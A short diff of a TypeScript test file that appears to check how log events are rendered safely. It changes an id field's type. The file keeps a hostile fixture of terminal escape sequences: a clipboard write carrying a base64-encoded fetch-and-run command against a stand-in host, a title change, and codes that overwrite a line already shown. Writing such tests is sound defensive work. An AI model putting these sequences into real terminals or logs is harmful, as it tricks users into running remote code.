@@ -12,7 +12,7 @@ const CONTROLS = [
 ];
 const code = (c: string) => c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0');
 const logEvent = (message: string) =>
-  ({ id: 1, time: 0, kind: 'log', level: 'info', message, source: 'x' }) as Parameters<typeof eventToLine>[0];
+  ({ id: '1', time: 0, kind: 'log', level: 'info', message, source: 'x' }) as Parameters<typeof eventToLine>[0];
 
 /** OSC 52 (write the clipboard), a title change, and a cursor-up-and-erase that rewrites a line already shown. */
 const HOSTILE = 'ok\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b]0;pwned\u0007\u001b[1A\u001b[2K\u009b31m\rfaked';
